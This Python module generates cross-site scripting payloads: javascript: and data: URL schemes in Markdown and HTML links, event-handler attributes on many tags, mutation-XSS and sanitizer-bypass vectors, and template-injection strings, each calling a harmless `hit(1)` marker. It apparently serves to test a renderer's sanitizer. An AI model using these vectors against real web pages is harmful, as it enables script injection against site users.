"""Attacks on whoever reads a page, by kind, put into prose in the hope that it runs. Each would call `hit`."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_RUN = "hit(1)"
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "java&Tab;script:", "javas&#99;ript&#58;"),
    *("data:text/html,<script>parent.hit(1)</script>;", "blob:", "feed:javascript:", "view-source:javascript:"),
)
_LINKS = (
    *("[a]({})", "[a](<{}>)", "![a]({})", "[a]: {}\n\n[a]", "<{}>", '<a href="{}">a</a>', "<a href='{}'>a</a>"),
    *("<a href={}>a</a>", '<img src="{}" alt="a">', '<form action="{}"><button>a</button></form>', '<iframe src="{}">'),
    *('<object data="{}">', '<embed src="{}">', '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">'),
    *(
        '<svg><a xlink:href="{}"><text>a</text></a></svg>',
        '<math href="{}">a</math>',
        '<link rel=stylesheet href="{}">',
    ),
    *("[a]({} 'b')", "[![b](/assets/img/icon.svg)]({})", "- [a]({})", "> [a]({})", "| a |\n|---|\n| [a]({}) |"),
)
_EVENTS = (
    "onerror",
    "ONLOAD",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbeforetoggle",
    "onpageshow",
)
_HOLDERS = (
    *("<img src=x {}>", "<img src=x\n{}>", "<img/src=x/{}>", '<img src="x"{}>', "<svg {}>", "<svg/{}/>", "<body {}>"),
    *("<details open {}>a</details>", "<input autofocus {}>", "<video src=x {}>", "<audio src=x {}>", "<p {}>a</p>"),
    *("<marquee {}>a</marquee>", "<a href='/about/' {}>a</a>", "<select autofocus {}>", "<style {}>", "<math {}>"),
    *("a {{: {} }}", "# a {{{}}}", "![a](/assets/img/icon.svg){{{}}}", "[a](/about/){{{}}}", "``` {{{}}}\na\n```"),
)
_RAW = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<?xml ?><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><script>hit&#40;1)</script></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<math><mi><style><img src=x onerror={_RUN}></style></mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'>",
    f"<title><p title='</title><img src=x onerror={_RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    f"<p style='background:url(javascript:{_RUN})'>a</p>",
    f"<p style='width:expression({_RUN})'>a</p>",
    f"<table background='javascript:{_RUN}'>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"`<script>{_RUN}</script>",
    f"    <script>{_RUN}</script>",
    f"```\n<script>{_RUN}</script>\n",
    f"[<script>{_RUN}</script>](/about/)",
    f'!["><script>{_RUN}</script>](/assets/img/icon.svg)',
    f'[a](/about/ "\'><script>{_RUN}</script>")',
    f'[a](/about/"onmouseover="{_RUN}")',
    f"[^1]\n\n[^1]: <script>{_RUN}</script>",
    f"*[a]: <script>{_RUN}</script>\n\na",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"\\<script>{_RUN}</script>",
    f"\x02klzzwxh:0000\x03<script>{_RUN}</script>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"{{{{ constructor.constructor('{_RUN}')() }}}}",
    f"{{% print {_RUN} %}}",
    f"${{{_RUN}}}",
    f'!!! note "<script>{_RUN}</script>"\n    a',
    f'!!! note" onclick="{_RUN}\n    a',
    f"a\n:   <script>{_RUN}</script>",
    f"<b><p></b><img src=x onerror={_RUN}></p>",
    f'<p id="a" id=\'"><img src=x onerror={_RUN}>\'>',
    f"<a href=\"/about/\ttitle='\"><img src=x onerror={_RUN}>'>a</a>",
    f'<img src="`><img src=x onerror={_RUN}>`">',
    f"<img \x00src=x \x00onerror={_RUN}>",
    f"<\x00script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    f"<ſcript>{_RUN}</ſcript>",
)


def attacks() -> Iterator[str]:
    """All of them, in one order."""
    yield from (link.format(f"{scheme}{_RUN}") for scheme, link in product(_SCHEMES, _LINKS))
    yield from (holder.format(f"{event}={_RUN}") for event, holder in product(_EVENTS, _HOLDERS))
    yield from (holder.format(f'{event}="{_RUN}"') for event, holder in product(_EVENTS[:2], _HOLDERS))
    yield from _RAW
